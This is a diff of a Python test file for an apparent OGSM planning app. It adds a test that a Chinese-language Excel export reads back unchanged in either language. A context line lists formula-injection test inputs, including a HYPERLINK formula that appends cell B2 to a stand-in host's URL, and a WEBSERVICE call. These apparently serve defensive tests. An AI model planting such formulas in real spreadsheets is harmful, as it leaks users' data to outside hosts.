@@ -32,6 +32,24 @@ def test_export_is_a_readable_workbook_that_round_trips(plan, tmp_path):
     assert preview.counts()["measures unchanged"] == sum(n.kind in ("goal", "measure") for n in plan.nodes.tree().nodes.values())
 
 
+@pytest.mark.parametrize("reader", ["en", "zh_CN"])
+def test_a_chinese_export_reads_back_in_either_language(plan, tmp_path, reader):
+    """Exported in Chinese (sheet names and headers in the glossary's words), imported by a program in
+    either language: every column recognised, the outline sheet skipped, nothing changed."""
+    from ogsm_desktop.core import i18n
+
+    i18n.set_language("zh_CN")
+    path = export(plan, tmp_path / "计划.xlsx")
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["分解", "衡量指标", "实际值"]
+    assert [c.value for c in wb["实际值"][1]] == ["编号", "期间", "实际值", "目标值", "备注"]
+    i18n.set_language(reader)
+    preview = importer.analyse(plan, path)
+    assert preview.ok and not preview.changes_anything
+    assert preview.counts()["values unchanged"] == plan.actuals.count()
+    assert preview.counts()["measures unchanged"] == sum(n.kind in ("goal", "measure") for n in plan.nodes.tree().nodes.values())
+
+
 FORMULA_LIKE = ['=HYPERLINK("http://example.invalid/?"&B2,"点这里")', "+1+1", "-2+3", "@SUM(A1:A2)", '=WEBSERVICE("x")']
 
 
